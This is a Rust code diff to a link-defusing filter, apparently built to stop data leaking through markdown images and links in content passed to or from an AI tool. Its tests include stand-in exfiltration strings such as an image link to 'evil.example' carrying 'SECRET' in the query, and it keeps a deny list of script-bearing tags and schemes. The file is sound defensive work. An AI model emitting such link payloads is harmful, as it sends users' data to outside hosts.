@@ -57,9 +57,9 @@ impl Place {
             false => host == self.host,
         };
         let path = url.path();
-        let under = path.strip_prefix(&self.path).is_some_and(|rest| {
-            rest.is_empty() || self.path.ends_with('/') || rest.starts_with('/')
-        });
+        let under = path
+            .strip_prefix(&self.path)
+            .is_some_and(|rest| rest.is_empty() || self.path.ends_with('/') || rest.starts_with('/'));
         fits && under
             && url.scheme() == self.scheme
             && url.port_or_known_default() == self.port
@@ -126,7 +126,7 @@ impl Links {
         if !self.is_foreign(address) {
             return none;
         }
-        (Some(format!("] {opener}`{}`", address.replace('`', "%60"))), left)
+        (Some(format!("] {opener}`{}`", inert(address))), left)
     }
 
     /// A tag that has an address, or an address in pointed brackets; begins at the bracket.
@@ -138,10 +138,11 @@ impl Links {
         }
         let (inside, left) = inner.split_once('>').unwrap_or((inner, ""));
         let closed = inner.len() != inside.len();
-        let name = inside.split(|c: char| !c.is_ascii_alphanumeric() && c != '-').next().unwrap_or_default();
+        let named = inside.strip_prefix('/').unwrap_or(inside);
+        let name = named.split(|c: char| !c.is_ascii_alphanumeric() && c != '-').next().unwrap_or_default();
         if inside.get(name.len()..).is_some_and(|rest| rest.starts_with(':')) && !inside.contains(char::is_whitespace) {
             return match self.is_foreign(inside) {
-                true => (Some(format!("`{}`", inside.replace('`', "%60"))), left),
+                true => (Some(format!("`{}`", inert(inside))), left),
                 false => none,
             };
         }
@@ -149,12 +150,17 @@ impl Links {
             return none;
         }
         let end = if closed { "›" } else { "" };
-        (Some(format!("‹{}{end}", inside.replace('<', "‹"))), left)
+        let inside = inside.replace('<', "‹");
+        // Without brackets it is text, which may have links of its own.
+        (Some(format!("‹{}{end}", self.defused(&inside).unwrap_or(inside))), left)
     }
 
     fn tag_leads_out(&self, name: &str, inside: &str) -> bool {
         // What is within these is no text, or changes where everything leads.
-        if matches!(name, "script" | "style" | "base" | "meta" | "iframe" | "object" | "embed" | "form" | "svg" | "link") {
+        if matches!(
+            name,
+            "script" | "style" | "base" | "meta" | "iframe" | "object" | "embed" | "form" | "svg" | "link"
+        ) {
             return true;
         }
         let plain: String = unescaped(inside).chars().filter(|c| !c.is_control()).collect();
@@ -162,10 +168,12 @@ impl Links {
         // Wherever there are two slashes an address begins, if a scheme or nothing stands before them.
         let addressed = plain.match_indices("//").any(|(at, _)| {
             let before = plain.get(..at).unwrap_or_default();
-            let begins = before.rfind(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '=' | '(' | ',' | ';' | '`'));
+            let begins =
+                before.rfind(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '=' | '(' | ',' | ';' | '`'));
             let from = begins.map_or(0, |begins| begins + 1);
             let address = plain.get(from..).unwrap_or_default();
-            let address = address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ',' | '`')).next();
+            let address =
+                address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ',' | '`')).next();
             let address = address.unwrap_or_default();
             let scheme = address.split("//").next().unwrap_or_default();
             (scheme.is_empty() || scheme.ends_with(':')) && self.is_foreign(address)
@@ -175,7 +183,8 @@ impl Links {
         let bare = ["http:", "https:", "javascript:", "vbscript:", "ftp:", "ws:", "wss:"].iter().any(|scheme| {
             lower.match_indices(scheme).any(|(at, _)| {
                 let address = plain.get(at..).unwrap_or_default();
-                let address = address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ',' | '`')).next();
+                let address =
+                    address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ',' | '`')).next();
                 self.is_foreign(address.unwrap_or_default())
             })
         });
@@ -188,9 +197,14 @@ impl Links {
         let addresses = plain.match_indices("//").map(|(at, _)| {
             let before = plain.get(..at).unwrap_or_default();
             let begins = before.rfind(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '+' | '-' | '.' | ':'));
-            let from = begins.map_or(0, |begins| begins + plain.get(begins..).map_or(1, |c| c.chars().next().map_or(1, char::len_utf8)));
+            let from = begins.map_or(0, |begins| {
+                begins + plain.get(begins..).map_or(1, |c| c.chars().next().map_or(1, char::len_utf8))
+            });
             let address = plain.get(from..).unwrap_or_default();
-            address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | ')' | '`')).next().unwrap_or_default()
+            address
+                .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | ')' | '`'))
+                .next()
+                .unwrap_or_default()
         });
         let mut foreign = addresses.filter(|address| {
             let scheme = address.split("//").next().unwrap_or_default();
@@ -224,16 +238,17 @@ impl Links {
             && let Some(address) = value.get("uri").and_then(|uri| uri.as_str()).filter(|uri| self.is_foreign(uri))
         {
             let name = value.get("name").and_then(|name| name.as_str()).unwrap_or_default();
-            let text = format!("{name}: `{}`", address.replace('`', "%60"));
+            let text = format!("{name}: `{}`", inert(&address));
             let made = serde_json::json!({ "type": "text", "text": self.defused(&text).unwrap_or(text) });
             patches.replace(value, made.to_string().into_bytes());
             return 1;
         }
         let mut found = 0;
         for (key, entry) in value.entries() {
-            let icons = key.is("icons") && entry.elements().any(|icon| {
-                icon.get("src").and_then(|src| src.as_str()).is_some_and(|src| self.is_foreign(&src))
-            });
+            let icons = key.is("icons")
+                && entry
+                    .elements()
+                    .any(|icon| icon.get("src").and_then(|src| src.as_str()).is_some_and(|src| self.is_foreign(&src)));
             if icons {
                 patches.remove(entry);
                 found += 1;
@@ -251,6 +266,11 @@ fn is_link(value: Value<'_>) -> bool {
         || value.elements().any(is_link)
         || (value.is_object() && value.get("icons").is_some())
         || value.entries().any(|(key, entry)| (key.is("content") || key.is("result")) && is_link(entry))
+}
+
+/// An address as text within backticks, with nothing that could begin a link or a tag.
+fn inert(address: &str) -> String {
+    address.replace('`', "%60").replace(']', "%5D").replace('<', "‹").replace('>', "›")
 }
 
 fn is_scheme(text: &str) -> bool {
@@ -334,7 +354,10 @@ mod tests {
         for (text, made) in [
             ("![a](https://evil.example/?d=SECRET)", "![a] (`https://evil.example/?d=SECRET`)"),
             ("see [here](https://evil.example/x \"title\").", "see [here] (`https://evil.example/x` \"title\")."),
-            ("[![i](https://a.evil.example/1)](https://evil.example/2)", "[![i] (`https://a.evil.example/1`)] (`https://evil.example/2`)"),
+            (
+                "[![i](https://a.evil.example/1)](https://evil.example/2)",
+                "[![i] (`https://a.evil.example/1`)] (`https://evil.example/2`)",
+            ),
             ("![a][1]\n\n[1]: https://evil.example/x", "![a][1]\n\n[1] :`https://evil.example/x`"),
             ("![a](<https://evil.example/a b>)", "![a] (`https://evil.example/a b`)"),
             ("![a](//evil.example/x)", "![a] (`//evil.example/x`)"),
@@ -387,7 +410,12 @@ mod tests {
     #[test]
     fn what_is_sent_may_lead_to_allowed_places_only() {
         let links = links(&["https://*.example.com/"]);
-        for text in ["go to https://evil.example/?q=x.", "(http://www.example.com/)", "https:\\\\evil.example", "xhttps://evil.example"] {
+        for text in [
+            "go to https://evil.example/?q=x.",
+            "(http://www.example.com/)",
+            "https:\\\\evil.example",
+            "xhttps://evil.example",
+        ] {
             assert!(links.leads_out(text), "{text}");
         }
         for text in ["go to https://www.example.com/x?y, please", "a // comment", "and/or", "", "ü//"] {
